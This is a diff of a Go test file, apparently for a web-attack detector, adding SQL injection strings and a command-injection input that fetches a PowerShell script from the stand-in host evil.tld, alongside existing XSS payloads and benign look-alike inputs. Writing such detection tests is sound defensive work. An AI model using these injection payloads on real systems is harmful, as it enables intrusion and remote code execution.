@@ -119,6 +119,9 @@ var attackCases = []struct {
 	{"xss", "query:q", "abc<i f r a m e src=//evil.tld>"},
 	{"xss", "cookie:c", "id=9<s t y l e"},
 	{"sqli", "query:id", "7Dunion all select 1,2"},
+	{"sqli", "query:q", `zz"") or (""q""=""q"`},
+	{"sqli", "query:q", "7'; whatever -- -x"},
+	{"cmdi", "query:cmd", ";iwr -UseBasicParsing https://evil.tld/a.ps1"},
 }
 
 // hardBenign are inputs that look like attacks to keyword matchers but are ordinary.
@@ -340,6 +343,8 @@ var hardBenign = []struct{ where, in string }{
 	{"query:q", "; insert coin"},
 	{"query:q", "x <s c a l e and 1 <m e a n"},
 	{"query:q", "print 3dunions, selected 4funion"},
+	{"query:q", `he said "yes"; great -- superb`},
+	{"query:q", "iwr is the PowerShell alias, see https://learn.example/iwr"},
 }
 
 func TestDetectAttacks(t *testing.T) {
